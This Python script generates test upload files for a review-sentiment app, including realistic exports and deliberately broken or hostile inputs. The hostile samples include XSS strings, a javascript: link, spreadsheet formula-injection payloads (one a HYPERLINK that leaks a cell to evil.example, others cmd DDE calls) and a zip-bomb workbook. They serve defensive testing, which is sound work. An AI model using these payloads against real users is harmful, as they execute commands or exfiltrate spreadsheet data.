"""Writes the real-world-shaped upload samples in tests/data/ (run from the project root).

    .venv/bin/python -m tests.data.make_upload_samples

Each file imitates an export from some other system: its own encoding, separator,
column names and label scheme (helpdesk tools, Excel in other locales, other languages);
others are hostile or broken (formulas, HTML, renamed binaries, no header, ragged rows,
too many columns, a zip bomb). The files are small and committed; this script is how
they were made, so they can be changed and rebuilt. Files too big to commit (10 MB in
one cell, a megabyte on one line, millions of rows) are built by the tests themselves.
tests/test_uploads.py holds what each file must give: a table or a plain error.
"""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import zipfile
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).resolve().parent

# (text, sentiment, category): a little of everything an export holds.
REVIEWS = [
    ("Arrived quickly and works exactly as described. Very happy!", "positive", "Web shop"),
    ("The strap broke after two days, complete waste of money.", "negative", "Web shop"),
    ("It's fine. Does what it says, nothing more.", "neutral", "Web shop"),
    ('Great value, but the manual says "plug in first", which is wrong.', "positive", "Web shop"),
    ("Customer service never answered my emails, I'm done with this brand", "negative", "Email"),
    ("Delivery was on time.", "neutral", "Email"),
    ("Love it 😍 best purchase this year", "positive", "App"),
    ("App crashes every time I open the basket, please fix", "negative", "App"),
    ("Café au lait machine: crème is thick, taste is superb", "positive", "Store"),
    ("Staff were rude and the queue, honestly, was 40 minutes long", "negative", "Store"),
    ("Opening hours changed; the sign outside still shows the old ones.", "neutral", "Store"),
    ("Works; battery lasts about a day", "neutral", "App"),
]
STARS = {"negative": ("1", "2"), "neutral": ("3",), "positive": ("4", "5")}


def _rows(labels: dict[str, str] | None = None) -> list[tuple[str, str, str]]:
    return [(text, (labels or {}).get(label, label), category) for text, label, category in REVIEWS]


def _delimited(header: list[str], rows: list[tuple], delimiter: str) -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def _star(label: str, i: int) -> str:
    options = STARS[label]
    return options[i % len(options)]


def _tiny_png() -> bytes:
    """A valid 1x1 PNG, as a screenshot renamed to .csv would start."""
    import struct
    import zlib

    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b"")


def build() -> dict[str, bytes]:
    """File name -> content of every sample."""
    files: dict[str, bytes] = {}
    # Plain UTF-8, commas, quotes inside quoted fields, words as labels (a CRM export).
    files["utf8_comma.csv"] = _delimited(
        ["Comment", "Sentiment", "Channel"], _rows({"positive": "Positive", "negative": "Negative", "neutral": "Neutral"}), ","
    ).encode()
    # Excel "CSV UTF-8" in a European locale: BOM, semicolons, short labels, one review over two lines.
    rows = _rows({"positive": "pos", "negative": "neg", "neutral": "neu"})
    rows[0] = ("Arrived quickly.\nWorks exactly as described; very happy!", "pos", "Web shop")
    files["utf8_bom_semicolon.csv"] = b"\xef\xbb\xbf" + _delimited(["feedback", "label", "source"], rows, ";").encode()
    # Excel "Unicode text": UTF-16 with BOM, tabs, star ratings.
    stars = [(text, _star(label, i), category) for i, (text, label, category) in enumerate(REVIEWS)]
    files["utf16_tab_stars.tsv"] = _delimited(["Review", "Stars", "Store"], stars, "\t").encode("utf-16")
    # UTF-16 without a BOM (some database tools write it like this).
    files["utf16le_no_bom.csv"] = _delimited(["text", "label"], [(t, lab) for t, lab, _ in _rows()], ",").encode("utf-16-le")
    # An old Windows tool: Windows-1252 (é, €, curly quotes), pipes, -1/0/1 labels, an id column.
    signed = {"negative": "-1", "neutral": "0", "positive": "1"}
    cp_rows = [
        (str(100 + i), text.replace("😍", ":)") + " – prix 5€, “très” bien", signed[label]) for i, (text, label, _) in enumerate(REVIEWS)
    ]
    files["cp1252_pipe.txt"] = _delimited(["id", "commentaire", "note"], cp_rows, "|").encode("cp1252")
    # Latin-1 (ISO-8859-1), German words, semicolons.
    latin = [
        ("Sehr gut, schön verpackt", "positive"),
        ("Nicht überzeugend, zu groß", "negative"),
        ("Geht so, nichts Besonderes", "neutral"),
    ]
    files["latin1_semicolon.csv"] = _delimited(["Kommentar", "sentiment"], latin * 2, ";").encode("latin-1")
    # Binary 0/1 labels, as a data-science export.
    binary = [(str(i), text, "1" if label == "positive" else "0") for i, (text, label, _) in enumerate(REVIEWS) if label != "neutral"]
    files["binary_labels.csv"] = _delimited(["review_id", "review_text", "is_positive"], binary, ",").encode()
    # No label column: fresh feedback nobody has rated yet.
    files["no_label.csv"] = _delimited(
        ["ticket", "message", "category"], [(f"T-{i}", t, c) for i, (t, _, c) in enumerate(REVIEWS)], ","
    ).encode()
    # Category missing.
    files["no_category.csv"] = _delimited(["text", "sentiment"], [(t, lab) for t, lab, _ in _rows()], ",").encode()
    # Star ratings in a CSV with a date column and a rating out of 5.
    dated = [(f"2026-11-{10 + i % 7:02d}", t, _star(lab, i), c) for i, (t, lab, c) in enumerate(REVIEWS)]
    files["star_ratings.csv"] = _delimited(["date", "review", "rating", "product"], dated, ",").encode()
    # Labels in another language only: every value is unknown to the app.
    french = {"positive": "positif", "negative": "négatif", "neutral": "neutre"}
    files["labels_french.csv"] = _delimited(["avis", "sentiment"], [(t, french[lab]) for t, lab, _ in REVIEWS], ",").encode()
    # A very long review (about 20,000 characters) among ordinary ones.
    long_rows = [(t, lab, c) for t, lab, c in _rows()]
    long_rows.append(("I have a lot to say about this product. " * 500, "neutral", "Email"))
    files["long_text.csv"] = _delimited(["text", "label", "category"], long_rows, ",").encode()
    # Hostile content: HTML/JS, formulas, markdown; must show as plain text and export safely.
    hostile = [
        ("<script>alert('xss')</script> great product", "positive", "Web shop"),
        ('<img src=x onerror="alert(1)"> awful', "negative", "Web shop"),
        ('=HYPERLINK("http://evil.example","click me")', "neutral", "Email"),
        ("+1 would buy again", "positive", "App"),
        ("-2 stars from me, broken", "negative", "App"),
        ("@support never replies", "negative", "Email"),
        ("[click here](javascript:alert(1)) **bold** claims", "neutral", "Store"),
        ("Fine overall, nothing to add", "neutral", "Store"),
    ]
    files["hostile.csv"] = _delimited(["text", "sentiment", "category"], hostile, ",").encode()
    # Bad input.
    files["empty.csv"] = b""
    files["header_only.csv"] = b"text,sentiment,category\r\n"
    files["numbers_only.csv"] = _delimited(
        ["id", "score", "stars"], [(str(i), str(i * 7.5), str(1 + i % 5)) for i in range(12)], ","
    ).encode()
    files["mixed_encoding.csv"] = files["utf8_comma.csv"] + "Très cher, déçu,Negative,Store\r\n".encode("cp1252")
    files["png_renamed.csv"] = _tiny_png()
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("reviews.csv", files["utf8_comma.csv"])
    files["zipped.csv"] = zipped.getvalue()
    files["reviews.zip"] = zipped.getvalue()
    files["two_sheets.xlsx"] = _workbook()
    files.update(_more_languages())
    files.update(_helpdesk_exports())
    files.update(_awkward_shapes())
    files.update(_not_tables())
    files.update(_fresh_feedback())
    return files


def _more_languages() -> dict[str, bytes]:
    """Reviews in other languages and the encodings their tools write."""
    japanese = [
        ("配送が早くて、説明どおりに動きます。とても満足です。", "positive", "ウェブ"),
        ("二日でストラップが壊れました。お金の無駄です。", "negative", "ウェブ"),
        ("普通です。可もなく不可もなく。", "neutral", "アプリ"),
        ("サポートの対応が丁寧でした", "positive", "メール"),
        ("アプリが毎回落ちます。直してください。", "negative", "アプリ"),
        ("届くのに一週間かかった", "neutral", "メール"),
    ]
    arabic = [
        ("المنتج رائع والتوصيل كان سريعا جدا", "positive", "المتجر"),
        ("الخدمة سيئة ولم يرد أحد على رسائلي", "negative", "البريد"),
        ("لا بأس به، لا شيء مميز", "neutral", "التطبيق"),
        ("أحببت الجودة، سأشتري مرة أخرى", "positive", "المتجر"),
        ("تأخر الطلب أسبوعين، تجربة مخيبة", "negative", "التطبيق"),
        ("وصل الطلب في الموعد", "neutral", "البريد"),
    ]
    spanish = [
        ("¡Llegó rápido y funciona perfectamente! Muy contenta.", "positivo"),
        ("La correa se rompió en dos días, una pérdida de dinero.", "negativo"),
        ("Está bien. Hace lo que dice, nada más.", "neutral"),
        ("El servicio al cliente nunca contestó, qué decepción", "negativo"),
        ("Buena relación calidad-precio, la recomiendo", "positivo"),
        ("El pedido llegó en la fecha prevista", "neutral"),
    ]
    return {
        # Excel in Japanese Windows writes CSV in Shift-JIS.
        "japanese_shift_jis.csv": _delimited(["レビュー", "評価", "チャネル"], japanese, ",").encode("shift_jis"),
        "japanese_utf8.csv": _delimited(["review", "sentiment", "channel"], japanese, ",").encode(),
        # Right-to-left text; the column names are English as most tools export them.
        "arabic_rtl.csv": _delimited(["text", "sentiment", "channel"], arabic, ",").encode(),
        # Spanish, with its own label words (only "neutral" is spelt as in English).
        "spanish_labels.csv": _delimited(["comentario", "sentimiento"], spanish, ";").encode(),
        # UTF-16 big-endian with a byte-order mark (some Mac and Java tools).
        "utf16be_bom.csv": _delimited(["text", "label"], [(t, lab) for t, lab, _ in _rows()], ",")
        .encode("utf-16-be")
        .join([codecs.BOM_UTF16_BE, b""]),
    }


def _helpdesk_exports() -> dict[str, bytes]:
    """What support tools export: many columns, ids, dates, satisfaction ratings, empty fields."""
    zendesk_header = [
        "Id", "Requester", "Requester id", "Assignee", "Group", "Subject", "Description", "Status", "Priority",
        "Ticket type", "Via", "Tags", "Created at", "Updated at", "Solved at", "Satisfaction Score", "Satisfaction Comment",
    ]  # fmt: skip
    scores = {"positive": "Good", "negative": "Bad", "neutral": "Offered"}
    zendesk = [
        (
            str(41_000 + i), f"Customer {i}", str(900_000 + i), ("Ana", "Ben", "")[i % 3], ("Tier 1", "Billing")[i % 2],
            text[:30], text, ("solved", "closed", "open")[i % 3], ("normal", "high", "", "low")[i % 4], "question",
            ("Web form", "Mail")[i % 2], "delivery refund" if i % 2 else "", f"2026-11-{10 + i % 7:02d} 09:{i:02d}",
            f"2026-11-{11 + i % 7:02d} 10:{i:02d}", "", scores[label], "" if label == "neutral" else text[:20],
        )
        for i, (text, label, _) in enumerate(REVIEWS)
    ]  # fmt: skip
    freshdesk_header = [
        "Ticket ID", "Subject", "Description", "Status", "Priority", "Source", "Type", "Agent", "Group",
        "Created time", "Due by Time", "Resolved time", "Customer Satisfaction", "Product", "Language",
    ]  # fmt: skip
    feelings = {"positive": "Extremely Happy", "negative": "Unhappy", "neutral": "Neutral"}
    freshdesk = [
        (
            str(7000 + i), text[:25], text, "Closed", "Low", ("Portal", "Email", "Chat")[i % 3], "Feedback", "",
            "Customer Care", f"2026-11-{1 + i:02d} 08:00:00", "", "", feelings[label], category, "en",
        )
        for i, (text, label, category) in enumerate(REVIEWS)
    ]  # fmt: skip
    return {
        "zendesk_export.csv": _delimited(zendesk_header, zendesk, ",").encode(),
        "freshdesk_export.csv": b"\xef\xbb\xbf" + _delimited(freshdesk_header, freshdesk, ",").encode(),
        "helpdesk_title_row.xlsx": _titled_workbook(),
    }


def _awkward_shapes() -> dict[str, bytes]:
    """Tables that are readable but not tidy, and tables that are not."""
    texts = [text for text, _, _ in REVIEWS]
    labels = [label for _, label, _ in REVIEWS]
    quoted = [
        ("First line.\r\nSecond line, with a comma.\r\n\r\nAfter a blank line.", "positive"),
        ('She said "wow"\nthen left', "neutral"),
        ("Plain one", "negative"),
        ("Ends with a newline\n", "negative"),
    ]
    formulas = [
        ('=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")', "negative"),
        ("+cmd|' /C calc'!A0", "neutral"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "neutral"),
        ("-2+3 would not buy again", "negative"),
        ("=1+1 is what the price should be", "positive"),
        ("\t=tab then formula", "neutral"),
    ]
    return {
        # A file that starts with the first review: no column names at all.
        "no_header.csv": _delimited(["Arrived quickly and works exactly as described.", "positive", "Web shop"], _rows()[1:], ",").encode(),
        # Columns that are named but hold nothing (unused fields of an export).
        "empty_columns.csv": _delimited(
            ["text", "Agent", "sentiment", "Tags"], [(t, "", lab, "") for t, lab in zip(texts, labels, strict=True)], ","
        ).encode(),
        "unknown_labels.csv": _delimited(
            ["feedback", "mood"],
            [(t, {"positive": "Happy", "negative": "Angry", "neutral": "Mixed"}[lab]) for t, lab in zip(texts, labels, strict=True)],
            ",",
        ).encode(),
        "quoted_newlines.csv": _delimited(["text", "label"], quoted, ",").encode(),
        "formulas.csv": _delimited(["text", "sentiment"], formulas, ",").encode(),
        # Line 5 has a stray separator.
        "ragged_rows.csv": b"text,label\r\nGood,positive\r\nBad,negative\r\nFine,neutral\r\nBroken, really,negative\r\n",
        # Rows shorter than the header (trailing empty fields left out by the exporting tool).
        "short_rows.csv": b"text,label,category\r\nGood value,positive,Shop\r\nToo slow,negative\r\nOkay\r\n",
        # Classic Mac line ends (CR only).
        "mac_line_endings.csv": _delimited(["text", "label"], [(t, lab) for t, lab, _ in _rows()], ",").replace("\r\n", "\r").encode(),
        # Every line ends with the separator: an unnamed, empty last column.
        "trailing_separators.csv": "".join(
            f"{t};{lab};\r\n" for t, lab in [("text", "label"), *((t.replace(";", ","), lab) for t, lab, _ in _rows())]
        ).encode(),
        "duplicate_names.csv": _delimited(
            ["Comment", "Comment", "Rating"], [(t, t.upper(), _star(lab, i)) for i, (t, lab, _) in enumerate(REVIEWS)], ","
        ).encode(),
        # Blank lines and lines of separators between the rows.
        "blank_lines.csv": (
            "text,label\r\n\r\n"
            + "".join(f"{t},{lab}\r\n,\r\n\r\n" for t, lab in [("Good", "positive"), ("Bad", "negative"), ("Fine", "neutral")])
        ).encode(),
        # Beyond the limits: 600 columns; a review pasted where the column names go.
        "wide_header.csv": (",".join(f"field_{i}" for i in range(600)) + "\r\n" + ",".join(["x"] * 600) + "\r\n").encode(),
        "long_column_name.csv": (
            "text," + "This review was pasted into the header row by mistake. " * 5 + "\r\nGood,positive\r\n"
        ).encode(),
    }


def _fresh_feedback() -> dict[str, bytes]:
    """Exports of fresh feedback as people bring them: one column, no header, empty or foreign label columns."""
    stars = {"negative": ("★☆☆☆☆", "★★☆☆☆"), "neutral": ("★★★☆☆",), "positive": ("★★★★☆", "★★★★★")}
    german = {"positive": "positiv", "negative": "negativ", "neutral": "neutral"}
    blanks = ("   ", "\u00a0", "\t", "\u200b", " \u3000 ")
    helpdesk = []
    for i, (text, label, category) in enumerate(REVIEWS):
        helpdesk.append((f"#{7100 + i}", "Solved", f"Ticket {i}", text, {"positive": "👍", "negative": "👎"}.get(label, ""), category))
        if i % 3 == 0:
            helpdesk.append((f"#{7150 + i}", "Closed", f"Ticket {i}b", blanks[i // 3 % len(blanks)], "", category))
    two_class = [(t, "👍" if lab == "positive" else "👎") for t, lab, _ in REVIEWS if lab != "neutral"]
    return {
        # The commonest export of unlabelled feedback: a header and one column of reviews ...
        "one_column.csv": _delimited(["review"], [(t,) for t, _, _ in REVIEWS], ",").encode(),
        # ... or not even a header: one review per line.
        "one_column_no_header.csv": "".join(f"{t}\n" for t, _, _ in REVIEWS).encode(),
        # A sentiment column in the template that nobody filled in.
        "empty_label_column.csv": _delimited(["text", "sentiment", "channel"], [(t, "", c) for t, _, c in REVIEWS], ",").encode(),
        # A helpdesk export: closed tickets whose comment is only spaces (or invisible characters), thumbs as the rating.
        "helpdesk_whitespace.csv": _delimited(
            ["Ticket ID", "Status", "Subject", "Customer comment", "Rating", "Channel"], helpdesk, ","
        ).encode(),
        # Labels in German, Excel's German CSV (semicolons, byte-order mark).
        "labels_german.csv": b"\xef\xbb\xbf"
        + _delimited(["Kommentar", "Stimmung"], [(t, german[lab]) for t, lab, _ in REVIEWS], ";").encode(),
        # Star ratings written with star signs.
        "emoji_stars.csv": _delimited(
            ["review", "stars", "channel"], [(t, stars[lab][i % len(stars[lab])], c) for i, (t, lab, c) in enumerate(REVIEWS)], ","
        ).encode(),
        # Thumbs up or down only: a two-class file.
        "thumbs_two_class.csv": _delimited(["comment", "vote"], two_class, ",").encode(),
    }


def _not_tables() -> dict[str, bytes]:
    """Files renamed .csv that hold something else, and a zip bomb dressed as a workbook."""
    return {
        "pdf_renamed.csv": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
        "gzip_renamed.csv": gzip.compress(_delimited(["text", "label"], [(t, lab) for t, lab, _ in _rows()], ",").encode(), mtime=0),
        "old_excel.csv": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        "html_page.csv": b"<!DOCTYPE html>\n<html><head><title>Export</title></head>\n<body><table><tr><td>text</td><td>label</td></tr>\n<tr><td>Good</td><td>positive</td></tr></table></body></html>\n",
        "zip_bomb.xlsx": _zip_bomb(),
    }


def _titled_workbook() -> bytes:
    """A helpdesk report: a title and a blank row above the column names, a summary sheet, the tickets sheet."""
    book = Workbook()
    summary = book.active
    summary.title = "Summary"
    summary.append(["Satisfaction report"])
    summary.append(["Tickets", len(REVIEWS)])
    tickets = book.create_sheet("Tickets")
    tickets.append(["Customer satisfaction – November 2026"])
    tickets.append([])
    tickets.append(["Ticket", "Channel", "Comment", "Rating", "Agent"])
    for i, (text, label, category) in enumerate(REVIEWS):
        tickets.append([f"#{5000 + i}", category, text, {"positive": "Good", "negative": "Bad", "neutral": "Okay"}[label], None])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _zip_bomb() -> bytes:
    """A workbook whose reviews sheet is 7 MB of one repeated cell, packed to about 25 KB."""
    bomb = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 150_000
    sheet = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + bomb + b"</sheetData></worksheet>"
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_workbook())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = sheet if item.filename == "xl/worksheets/sheet2.xml" else source.read(item)
            target.writestr(zipfile.ZipInfo(item.filename, (2026, 11, 20, 0, 0, 0)), content, zipfile.ZIP_DEFLATED, 9)
    return out.getvalue()


def _workbook() -> bytes:
    """An Excel export: a small notes sheet first, the reviews on the second (bigger) sheet."""
    book = Workbook()
    notes = book.active
    notes.title = "About"
    notes.append(["Export", "Weekly feedback"])
    notes.append(["Generated", "2026-11-20"])
    sheet = book.create_sheet("Reviews")
    sheet.append(["Review", "Rating", "Channel"])
    for i, (text, label, category) in enumerate(REVIEWS):
        sheet.append([text, int(_star(label, i)), category])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def main() -> None:
    """Write every sample next to this script."""
    for name, content in build().items():
        (HERE / name).write_bytes(content)
        print(f"{name}: {len(content):,} bytes")


if __name__ == "__main__":
    main()
